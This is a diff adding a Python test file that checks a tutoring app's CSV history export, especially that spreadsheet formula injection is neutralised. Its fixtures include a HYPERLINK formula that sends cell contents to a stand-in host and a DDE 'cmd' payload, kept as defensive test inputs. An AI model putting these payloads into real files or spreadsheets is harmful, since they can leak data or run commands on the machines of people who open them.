@@ -1,0 +1,116 @@
+"""The history for other programs: lines as they are, and cells that no spreadsheet runs."""
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from tutor.bank import Verdict
+from tutor.progress import HistoryUnreadable, ProfileTooNew, open_progress, read_history
+from tutor.progress.export import COLUMNS, disarm, history_lines, rearm, to_csv
+
+from .builders import Clock, fill, make_attempt, profile
+
+DANGEROUS = tuple("=+-@＝＋－＠")
+ANSWERS = [
+    '=HYPERLINK("http://x.invalid/?"&A1)',
+    "+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "＝1",
+    "'=1",
+    "- Anfrage\n- Schlüssel; =1",
+    "Внимание, «ключ», 注意力",
+    "",
+]
+tricky = st.text(alphabet="=+-@＝＋－＠'\t\r\n; \"aä,|", max_size=14)
+
+
+def rows(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+@given(st.one_of(tricky, st.text()))
+@example("\r=")
+@example("'\t=")
+def test_a_disarmed_cell_runs_nowhere_and_comes_back(text: str) -> None:
+    cell = disarm(text)
+    assert rearm(cell) == text
+    assert not cell.startswith((*DANGEROUS, "\t", "\r", "\n"))
+    for piece in re.split(r"[;\t\r\n]", cell):
+        assert not piece.lstrip(' "').startswith(DANGEROUS)
+
+
+@pytest.mark.parametrize("text", ["a = b", "x-y", "3 + 4", "mail@home", "it's", "a, -b", "12"])
+def test_what_is_harmless_stays_as_it_is(text: str) -> None:
+    assert disarm(text) == text
+
+
+def test_a_row_for_each_attempt(home: Path) -> None:
+    with open_progress(profile(home), clock=Clock()) as progress:
+        for number, answer in enumerate(ANSWERS, start=1):
+            progress.record(make_attempt(number, number, answer=answer))
+        progress.overrule("a1", {"how": Verdict.PARTIAL})
+    data = to_csv(read_history(profile(home).history))
+    first, *_ = found = rows(data)
+    assert tuple(first) == COLUMNS
+    assert [rearm(row["answer"]) for row in found] == ANSWERS
+    assert (first["id"], first["answer"]) == ("a1", "'" + ANSWERS[0])
+    assert first["verdicts"] == "what=met why=partial how=missed>partial"
+    assert (first["time"], first["deck"], first["question"]) == (
+        "2026-01-02T03:05:05Z",
+        "deck",
+        "deck.1",
+    )
+    assert (first["marks"], first["full"], first["score"]) == ("2.75", "3.5", "0.7857")
+    assert (first["grader"], first["language"], first["seconds"]) == ("terms", "ru", "12.5")
+    assert (first["hints"], first["gave_up"]) == ("0", "no")
+    assert data.count(b"\r\n") >= len(ANSWERS)
+
+
+def test_the_mark_of_utf_8_is_there_when_it_is_wanted(home: Path) -> None:
+    fill(profile(home), 1)
+    plain, marked = (to_csv(read_history(profile(home).history), bom=bom) for bom in (False, True))
+    assert marked == b"\xef\xbb\xbf" + plain
+
+
+def test_control_characters_reach_no_terminal() -> None:
+    (row,) = rows(to_csv([make_attempt(1, answer="a\x1b[2Jb\x00\x9bc\td")]))
+    assert row["answer"] == "a\ufffd[2Jb\ufffd\ufffdc\td"
+
+
+def test_lines_come_as_they_are(home: Path) -> None:
+    paths = profile(home)
+    assert history_lines(paths.history) == (b"", ())
+    fill(paths, 1, 2)
+    whole = paths.history.read_bytes()
+    assert history_lines(paths.history) == (whole, ())
+    paths.history.write_bytes(whole + b"?\n\n" + whole)
+    assert history_lines(paths.history) == (whole + b"?\n\n" + whole, (3, 4))
+
+
+def test_a_last_line_without_its_end_is_finished_or_left_out(home: Path) -> None:
+    paths = profile(home)
+    fill(paths, 1, 2)
+    whole = paths.history.read_bytes()
+    paths.history.write_bytes(whole[:-1])
+    assert history_lines(paths.history) == (whole, ())
+    paths.history.write_bytes(whole[:-2])
+    assert history_lines(paths.history)[0] == whole.splitlines(keepends=True)[0]
+
+
+def test_a_history_that_cannot_be_read_is_a_named_error(home: Path) -> None:
+    paths = profile(home)
+    paths.history.mkdir(parents=True)
+    with pytest.raises(HistoryUnreadable):
+        history_lines(paths.history)
+    paths.history.rmdir()
+    paths.history.write_bytes(b'{"v":99}\n')
+    with pytest.raises(ProfileTooNew):
+        history_lines(paths.history)
